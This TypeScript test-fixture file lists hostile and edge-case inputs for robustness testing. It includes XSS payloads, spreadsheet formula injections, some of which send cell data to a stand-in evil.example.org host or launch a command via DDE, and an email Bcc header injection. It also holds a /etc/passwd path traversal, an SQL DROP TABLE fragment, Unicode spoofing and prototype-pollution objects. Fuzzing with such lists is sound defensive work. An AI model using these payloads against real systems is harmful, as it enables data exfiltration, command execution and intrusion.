/** What nobody types into a form and what anybody can send: texts and values of every unkind kind. */

/** Each would run, call or be worked out in a page, a mail, a file or a cell that takes it for more than a text. */
export const MARKUP: readonly string[] = [
  '<img src=x onerror="window.__ran=1">',
  '</script><script>window.__ran=1</script>',
  '"><svg/onload=window.__ran=1>',
  "'-(window.__ran=1)-'",
  '$' + '{window.__ran=1}',
  '{{constructor.constructor("window.__ran=1")()}}',
  'javascript:window.__ran=1',
  '&lt;script&gt;window.__ran=1&lt;/script&gt;',
  '<!--<style>*{display:none}</style>',
];

/** What a spreadsheet takes for a formula. */
export const FORMULAS: readonly string[] = [
  '=HYPERLINK("https://evil.example.org/?"&A1,"Click")',
  '=IMPORTXML("https://evil.example.org","//a")',
  '=1+1',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '"=1+1"',
  "'=1+1",
  '＝1+1',
];

/** Signs that are cut in half, turn words around, end texts, or cannot be seen. */
export const SIGNS: readonly string[] = [
  '\ud83d',
  '\udc00 half a sign',
  'left \ud800',
  '\u202egnp.exe\u202c',
  '\u2067\u0627\u0644\u0645\u062f\u0631\u0633\u0629\u2069 \u200f12',
  'nul \u0000 in between',
  '\u0007\u001b[31m\u009b',
  '\u200b\u200d\ufeff',
  '\u00a0',
  'two\nlines\r\nand three\u2028four\u2029five',
  'e\u0301\u0323'.repeat(60),
  'Z\u0351\u036b\u0343'.repeat(40),
  '👩‍👩‍👧‍👦'.repeat(20),
  '\ufffe\uffff',
];

/** Names of things that every object of the language has. */
export const NAMES: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'length',
];

/** Texts that look like something else. */
export const LOOKALIKES: readonly string[] = [
  '',
  ' ',
  '   \t  ',
  'null',
  'undefined',
  'NaN',
  'TRUE',
  '0',
  '-0',
  '-1',
  '1e308',
  '1e400',
  '0x10',
  '999999999.99',
  '9999999999999999',
  '0.001',
  '1,00',
  '£-5',
  '2026-02-30',
  '2026-13-01',
  '0000-00-00',
  '9999-12-31',
  '1899-12-30',
  '1900-01-01',
  '2099-12-31',
  '2100-01-01',
  '24:00',
  '00:00',
  '23:59',
  '2026/27',
  '2026/99',
  '2098/99',
  '2099/00',
  '2000/01',
  '#REF!',
  '#N/A',
  'Loading...',
  'C-1',
  'S-1',
  'a@b',
  'a@b.example.org; c@d.example.org',
  'a@b.example.org\nBcc: x@evil.example.org',
  '"a b"@example.org',
  "'",
  "''",
  '\\',
  '%s%n%d',
  '../../../etc/passwd',
  '[undone 1 5]',
  '; DROP TABLE people',
  '$&',
  '$1',
];

export const LONG: readonly string[] = [
  'x'.repeat(2_001),
  'x'.repeat(50_000),
  '=’"<'.repeat(12_500),
  '🐈'.repeat(25_000),
];

export const TEXTS: readonly string[] = [...MARKUP, ...FORMULAS, ...SIGNS, ...NAMES, ...LOOKALIKES, ...LONG];

/** Values of kinds that no field has. Made anew each time, since whoever gets one may change it. */
export const values = (): unknown[] => [
  undefined,
  null,
  true,
  false,
  0,
  -0,
  -1,
  1,
  1.5,
  0.1 + 0.2,
  1e308,
  -1e308,
  5e-324,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 2,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  [],
  [[]],
  [null],
  [undefined],
  {},
  [{}],
  JSON.parse('{"__proto__": {"ok": true, "length": 1}}'),
  { constructor: { prototype: { ok: true } } },
  { length: 5 },
  { toString: 'x', valueOf: 'y' },
  deep(2_000),
  new Array(100_000).fill('x'),
  new Array(100_000).fill({}),
  Object.fromEntries(Array.from({ length: 5_000 }, (_, index) => [`field${index}`, index])),
];

/** Lists within lists, as deep as that. */
function deep(levels: number): unknown {
  let value: unknown = 'x';
  for (let level = 0; level < levels; level++) value = level % 2 === 0 ? [value] : { a: value };
  return value;
}
